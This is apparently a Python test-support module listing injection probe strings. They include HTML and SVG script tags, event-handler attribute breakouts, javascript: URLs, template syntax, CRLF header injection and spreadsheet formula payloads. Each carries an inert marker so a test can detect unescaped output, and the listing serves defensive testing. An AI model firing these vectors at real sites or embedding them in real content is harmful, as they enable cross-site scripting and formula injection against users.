"""Texts that become markup, script, a property, a formula or a link wherever one is written without being escaped.

Each bears a mark (`zqx`) in a place where text never gets: in the name of a tag or an attribute, in a handler, a style,
the address of something loaded. So that what becomes of it can be told by looking at what was parsed.
"""

MARK = "zqx"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")

_TAGS = (
    "<zqx>", "<script>zqx()</script>", "<script src=//zqx.example></script>", "<img src=zqx onerror=zqx()>",
    "<svg onload=zqx()>", "<svg><script>zqx()</script></svg>", "<b class=zqx>", "<a href=javascript:zqx()>x</a>",
    "<a href='java\tscript:zqx()'>x</a>", "<iframe srcdoc='<zqx>'>", "<iframe src=javascript:zqx()>",
    "<object data=zqx>", "<embed src=zqx>", "<base href=//zqx.example>", "<meta http-equiv=refresh content='0;//zqx'>",
    "<link rel=stylesheet href=//zqx.example>", "<style>@import'//zqx'</style>", "<form action=//zqx.example>",
    "<input autofocus onfocus=zqx()>", "<details open ontoggle=zqx()>", "<video src=zqx onerror=zqx()>",
    "<math href=javascript:zqx()>", "<body onload=zqx()>", "<p style=zqx:1>", "<button formaction=//zqx.example>",
    "<template><zqx></template>", "<noscript><zqx></noscript>", "<xml:zqx>", "<!--zqx-->", "<?zqx ?>",
    "<![CDATA[zqx]]>", "<zqx/x=", "<script type=module>import'zqx'</script>", "<div hx-get=//zqx.example>",
    "<div id=zqx>",
)  # fmt: skip
_ENDS = ("", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "</text></svg>", "</style>", "`>")
_ATTRIBUTES = (
    '" onmouseover="zqx()', "' onmouseover='zqx()", " onmouseover=zqx() ", '" style="zqx:1',
    '" autofocus onfocus="zqx()',
    "' zqx='", '" zqx="', "`zqx=`", '"/zqx="',
)  # fmt: skip
_ELSEWHERE = (
    "javascript:zqx()", "JaVaScRiPt:zqx()", "data:text/html,<zqx>", "vbscript:zqx", "//zqx.example/", "\\zqx",
    "';zqx()//",
    '";zqx()//', "</script><zqx>", "\\u003czqx\\u003e", "&lt;zqx&gt;", "&#60;zqx&#62;", "%3Czqx%3E", "\u2028zqx()//",
    "{{zqx}}", "{% zqx %}", "${zqx}", "#{zqx}", "x\r\nzqx:1", "x\nzqx:1", "x\r\nBEGIN:zqx", "x;zqx=1:y", "x\\nzqx:1",
    "=zqx()", "+zqx()", "-zqx()", "@zqx", "\t=zqx()", '=HYPERLINK("//zqx")', "\r=zqx", "%0d%0aSet-Cookie:zqx=1",
    "\uff1czqx\uff1e", "<\u200bzqx>", "\u202ezqx", "zqx" + "\U0001f0a1" * 3, "*/zqx/*", "url(//zqx)",
    "<zqx\x0conload=1>",
)  # fmt: skip

# For every kind of place one, for the suite; where two can stand in one text, they do.
SHORT = (
    "<zqx>&lt;zqx&gt;{{zqx}}", "\"'><svg onload=zqx()>", "</title></textarea></script>]]>--><script>zqx()</script>",
    "\"' onmouseover=zqx() '", "javascript:zqx()", "=zqx()\r\nzqx:1",
)  # fmt: skip


def everything(most: int = 200) -> list[str]:
    """The short ones, those that stand alone, and ends of what they may stand in with a tag after each."""
    alone = [*SHORT, *_TAGS, *_ATTRIBUTES, *_ELSEWHERE]
    joined = [end + tag for tag in _TAGS for end in _ENDS[1:]]
    step = max(1, len(joined) // max(1, most - len(alone)))
    return list(dict.fromkeys([*alone, *joined[::step], *joined]))[:most]
